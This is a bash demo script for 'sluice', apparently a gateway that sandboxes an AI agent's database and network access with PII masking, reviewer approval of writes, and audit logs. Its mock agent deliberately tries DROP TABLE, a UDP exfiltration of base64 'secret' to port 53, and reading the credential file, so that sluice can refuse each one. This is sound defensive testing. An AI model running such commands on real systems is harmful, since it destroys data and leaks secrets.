#!/usr/bin/env bash
# The sluice demo. An "agent" (psql and curl, unchanged) is wrapped with `sluice exec`:
#  - its connection to the production database is transparently redirected through sluice,
#    which logs in with a credential the agent never sees, logs where the connection was going
#    and which process made it;
#  - query results come back with emails, cards and other PII masked;
#  - `DROP TABLE` is refused (on the parsed statement) and never reaches the database;
#  - an `UPDATE` is held in the gateway until a reviewer approves it with `sluice approvals`
#    (after seeing a preview of the rows it changes); then it runs, once;
#  - a destination the policy does not list is refused in the kernel.
set -euo pipefail
cd "$(dirname "$0")/.."
source scripts/lib-netns.sh
source scripts/lib-pg.sh
BIN=target/debug
WORK=$(mktemp -d /tmp/sluice-demo.XXXXXX)
chmod 755 "$WORK"
NS=sldemo
DB=169.254.200.2
cleanup() {
  [ -n "${OTHER_PID:-}" ] && kill "$OTHER_PID" 2>/dev/null || true
  [ -n "${REVIEWER_PID:-}" ] && kill "$REVIEWER_PID" 2>/dev/null || true
  pg_down "$WORK/pg"
  netns_down "$NS"
  rm -rf "$WORK"
}
trap cleanup EXIT
step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

step "Production: PostgreSQL 15 at $DB:5432 (a network namespace), and another service at :9999"
netns_up "$NS" 200
pg_up "$WORK/pg" "$NS" "$DB"
pg_sql "$WORK/pg" "CREATE ROLE app LOGIN PASSWORD 'app-secret-held-by-sluice'"
pg_sql "$WORK/pg" "CREATE DATABASE shop OWNER app"
pg_sql "$WORK/pg" "CREATE TABLE customers (id int PRIMARY KEY, name text, email text, card text, ssn text, order_no text);
  INSERT INTO customers VALUES
   (1, 'Ada Lovelace', 'ada@example.com', '4111 1111 1111 1111', '123-45-6789', 'ORD-2024-000123'),
   (2, 'Alan Turing', 'alan.turing@bletchley.org', '5500-0000-0000-0004', '219-09-9999', 'ORD-2024-000124'),
   (3, 'Grace Hopper', 'grace@navy.mil', '4111111111111112', '078-05-1120', 'ORD-2024-000125');
  ALTER TABLE customers OWNER TO app;" shop
ip netns exec "$NS" "$BIN/sluice-probe" serve "$DB:9999" --http > /dev/null &
OTHER_PID=$!
echo "What the database really holds (read by the operator over its local socket):"
runuser -u postgres -- psql -X -h "$WORK/pg" -U postgres -d shop -c "select * from customers"

# Secrets are written readable by their owner only: sluice refuses a `file:` secret or a
# --token-file that group or others could read (as ssh does with private keys).
(
  umask 077
  printf 'app-secret-held-by-sluice\n' > "$WORK/orders-db.password"
  # The reviewer's token. A real deployment signs reviewers in with OIDC (identity.oidc); a
  # static token keeps the demo free of external services.
  openssl rand -hex 24 > "$WORK/reviewer.token"
)
cat > "$WORK/policy.yaml" <<YAML
listen: 127.0.0.1:15001
state_dir: $WORK/state
data_dir: $WORK/data
targets:
  - name: demo-agent      # a cgroup sluice manages; \`sluice exec\` puts the agent in it
    egress: deny          # anything not listed below is refused
    run_as: sluice-agent  # the agent runs unprivileged: no root, no capabilities, seccomp
resources:
  - name: orders-db
    protocol: postgres
    match:
      - { address: $DB, port: 5432 }
    credentials:          # the agent's own password is ignored: sluice logs in with this one
      mode: inject
      user: app
      password: { file: $WORK/orders-db.password }
rules:
  - { name: reads, statements: [select], action: allow }
  - name: writes-need-approval
    statements: [insert, update, delete]
    action: hold          # the statement waits in sluice until a DBA approves it
    approval: { groups: [dba], timeout: 2m, preview: { explain: true, dry_run: true } }
approvals:
  listen: 127.0.0.1:17070 # HTTP API and web page for reviewers
                          # (the CLI uses the gateway's socket, $WORK/state/approvals.sock)
identity:
  static_tokens:          # single-user demo; use identity.oidc in production
    - { subject: dana, groups: [dba], token: { file: $WORK/reviewer.token } }
YAML
step "The policy"
cat "$WORK/policy.yaml"

AGENT='
echo "--- psql: SELECT * FROM customers"
psql -X "host=169.254.200.2 user=app password=anything dbname=shop" -c "SELECT * FROM customers"
echo "--- psql: DROP TABLE customers"
psql -X "host=169.254.200.2 user=app password=anything dbname=shop" -c "DROP TABLE customers" || true
echo "--- psql: UPDATE customers SET name = '"'"'Ada King'"'"' WHERE id = 1   (held: waits for a reviewer)"
psql -X "host=169.254.200.2 user=app password=anything dbname=shop" -c "UPDATE customers SET name = '"'"'Ada King'"'"' WHERE id = 1"
echo "--- curl http://169.254.200.2:9999/  (not a listed resource)"
curl -sS -m 3 http://169.254.200.2:9999/ || echo "(refused by sluice in the kernel: EPERM)"
echo "--- a DNS-shaped datagram to a host that is not the resolver (exfiltration over UDP)"
bash -c "echo c2VjcmV0 > /dev/udp/169.254.200.2/53" || echo "(refused by sluice in the kernel: EPERM)"
echo "--- cat the credential sluice logs in with"
cat '"$WORK"'/orders-db.password || echo "(hidden from the agent: sluice exec'"'"'s Landlock sandbox)"
'
# A reviewer at another terminal: waits for the held statement, looks at it, approves it.
reviewer() {
  # -c: the CLI talks to the gateway's unix socket and checks who serves it before it sends
  # the token (the gateway's pid from its lease, outside the agents' cgroup).
  local approvals=("$BIN/sluice" approvals -c "$WORK/policy.yaml" --token-file "$WORK/reviewer.token")
  for _ in $(seq 1 300); do
    id=$("${approvals[@]}" list 2>/dev/null | awk 'NR == 2 { print $1 }' || true)
    if [ -n "$id" ]; then
      echo "[reviewer] \$ sluice approvals list"
      "${approvals[@]}" list | sed 's/^/[reviewer] /'
      echo "[reviewer] preview: $("${approvals[@]}" show "$id" | grep -E '"(rows_affected|estimated_rows)"' | tr -s ' \n' ' ')"
      echo "[reviewer] \$ sluice approvals approve $id --reason 'customer asked, ticket CS-42'"
      "${approvals[@]}" approve "$id" --reason "customer asked, ticket CS-42" | sed 's/^/[reviewer] /'
      return
    fi
    sleep 0.2
  done
}
reviewer &
REVIEWER_PID=$!

step "The agent, unchanged, wrapped: sluice exec --config policy.yaml -- sh -c '...'"
# Allowed statements are logged at debug level; the demo shows them next to the refusals.
RUST_LOG=info,sluice::proto::command=debug \
  "$BIN/sluice" --log-file "$WORK/sluice.log" exec --config "$WORK/policy.yaml" -- sh -c "$AGENT"
wait "$REVIEWER_PID" || true

step "What sluice logged"
grep -E 'event="(connection|session_start|command|approval_requested|approval_decided|hold_released|egress_denied|udp_denied|exec_sandbox)"' "$WORK/sluice.log" \
  | sed -E 's/^[^ ]+ +//' | cut -c1-260

step "Ground truth: the table is still there"
runuser -u postgres -- psql -X -A -t -h "$WORK/pg" -U postgres -d shop -c "select count(*) || ' customers' from customers"
echo "and the approved UPDATE ran once:"
runuser -u postgres -- psql -X -A -t -h "$WORK/pg" -U postgres -d shop -c "select id, name from customers where id = 1"

step "The audit log: sluice audit verify | sessions | replay"
"$BIN/sluice" audit --config "$WORK/policy.yaml" verify
"$BIN/sluice" audit --config "$WORK/policy.yaml" sessions
# The session that held the UPDATE: its transcript shows the hold, the approval and the result.
SESSION=$("$BIN/sluice" audit --config "$WORK/policy.yaml" export \
  | grep -F '"kind":"approval"' | head -1 | sed -E 's/.*"session":"([0-9a-f]+)".*/\1/')
echo "\$ sluice audit replay $SESSION"
"$BIN/sluice" audit --config "$WORK/policy.yaml" replay "$SESSION"
